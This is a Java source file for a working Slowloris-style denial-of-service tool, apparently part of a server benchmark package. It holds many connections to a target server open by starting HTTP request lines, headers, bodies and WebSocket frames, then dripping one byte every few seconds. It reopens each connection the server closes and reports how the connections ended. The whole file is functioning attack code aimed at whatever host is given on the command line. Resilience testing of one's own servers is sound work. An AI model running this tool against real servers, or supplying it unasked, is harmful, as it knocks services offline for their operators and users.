package io.chatsignal.bench;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.Comparator;
import java.util.Locale;
import java.util.Map;
import java.util.PriorityQueue;
import java.util.Queue;
import java.util.TreeMap;
import java.util.concurrent.ThreadLocalRandom;

/**
 * Holds a server's connections open with as little as it can: begins a request line, headers, a
 * body or a WebSocket frame, adds a byte every few seconds, and opens a new connection for each
 * that the server ends. Runs until it is stopped, and tells then how they ended.
 */
public final class Slowloris {
  private static final long DRIP_NANOS = 5_000_000_000L;
  private static final int LOCAL_ADDRESSES = 100;
  private static final int OPENED_AT_A_TIME = 50;

  /** What is begun and never finished. */
  private enum Kind {
    LINE("GET /aaaa"),
    HEADERS("GET / HTTP/1.1\r\nHost: a\r\nX-Slow: a"),
    BODY("POST /app HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\na"),
    FRAME(
        "GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\n"
            + "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
            + "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
            // The head of a text message of 1000 bytes, whose mask is nothing, and two of these.
            + "\u0081\u00fe\u0003\u00e8\u0000\u0000\u0000\u0000aa");

    private final String beginning;

    Kind(String beginning) {
      this.beginning = beginning;
    }

    ByteBuffer bytes() {
      return ByteBuffer.wrap(beginning.getBytes(StandardCharsets.ISO_8859_1));
    }
  }

  private static final class Connection {
    final Kind kind;
    final SocketChannel channel;
    long dripNanos;
    String answer = "nothing";

    Connection(Kind kind, SocketChannel channel) {
      this.kind = kind;
      this.channel = channel;
    }
  }

  private final InetSocketAddress server;
  private final int wanted;
  private final Selector selector = Selector.open();
  private final Queue<Connection> dripping =
      new PriorityQueue<>(Comparator.comparingLong(connection -> connection.dripNanos));
  private final ByteBuffer input = ByteBuffer.allocate(4096);
  private final Map<String, Integer> endings = new TreeMap<>();
  private int open;
  private int opened;
  private boolean full;

  private Slowloris(InetSocketAddress server, int wanted) throws IOException {
    this.server = server;
    this.wanted = wanted;
  }

  public static void main(String[] args) throws IOException {
    if (args.length != 2) {
      System.err.println("usage: slowloris http://HOST:PORT CONNECTIONS");
      System.exit(2);
    }
    Slowloris slowloris = new Slowloris(Target.of(args[0]).resolve(), Integer.parseInt(args[1]));
    Runtime.getRuntime().addShutdownHook(new Thread(slowloris::report));
    slowloris.run();
  }

  private void run() throws IOException {
    while (true) {
      for (int i = 0; i < OPENED_AT_A_TIME && open < wanted; i++) {
        open();
      }
      selector.select(this::ready, open < wanted ? 1 : 10);
      drip();
      if (open >= wanted && !full) {
        full = true;
        System.out.println(wanted + " connections are open");
      }
    }
  }

  private void open() throws IOException {
    Kind kind = Kind.values()[opened % Kind.values().length];
    SocketChannel channel = SocketChannel.open();
    channel.configureBlocking(false);
    channel.setOption(StandardSocketOptions.TCP_NODELAY, true);
    if (server.getAddress().isLoopbackAddress()) {
      // One address has too few ports for connections that end and come again.
      channel.bind(new InetSocketAddress("127.0.0." + (2 + opened % LOCAL_ADDRESSES), 0));
    }
    open++;
    opened++;
    channel.register(selector, SelectionKey.OP_CONNECT, new Connection(kind, channel));
    channel.connect(server);
  }

  private void ready(SelectionKey key) {
    Connection connection = (Connection) key.attachment();
    try {
      if (key.isConnectable() && connection.channel.finishConnect()) {
        connection.channel.write(connection.kind.bytes());
        key.interestOps(SelectionKey.OP_READ);
        // Each at times of its own: in step they would be a burst of writes, which is another
        // attack.
        connection.dripNanos = System.nanoTime() + ThreadLocalRandom.current().nextLong(DRIP_NANOS);
        dripping.add(connection);
      } else if (key.isReadable()) {
        read(connection);
      }
    } catch (IOException e) {
      end(connection);
    }
  }

  private void read(Connection connection) throws IOException {
    input.clear();
    int count = connection.channel.read(input);
    if (count < 0) {
      end(connection);
      return;
    }
    String text = new String(input.array(), 0, count, StandardCharsets.ISO_8859_1);
    int close = text.lastIndexOf('\u0088');
    if (text.startsWith("HTTP/1.1 ") && connection.kind != Kind.FRAME) {
      connection.answer = text.substring(9, 12);
    } else if (close >= 0 && close + 4 <= text.length()) {
      connection.answer = String.valueOf(text.charAt(close + 2) << 8 | text.charAt(close + 3));
    }
  }

  private void drip() {
    long now = System.nanoTime();
    while (!dripping.isEmpty() && dripping.element().dripNanos - now <= 0) {
      Connection connection = dripping.remove();
      if (!connection.channel.isOpen()) {
        continue;
      }
      try {
        connection.channel.write(ByteBuffer.wrap(new byte[] {'a'}));
        connection.dripNanos = now + DRIP_NANOS;
        dripping.add(connection);
      } catch (IOException e) {
        end(connection);
      }
    }
  }

  private void end(Connection connection) {
    if (!connection.channel.isOpen()) {
      return;
    }
    open--;
    synchronized (endings) {
      endings.merge(
          connection.kind.name().toLowerCase(Locale.ROOT) + " " + connection.answer,
          1,
          Integer::sum);
    }
    try {
      connection.channel.close();
    } catch (IOException e) {
      // It is gone either way.
    }
  }

  private void report() {
    synchronized (endings) {
      System.out.println(opened + " connections, ended by the server: " + endings);
    }
  }
}
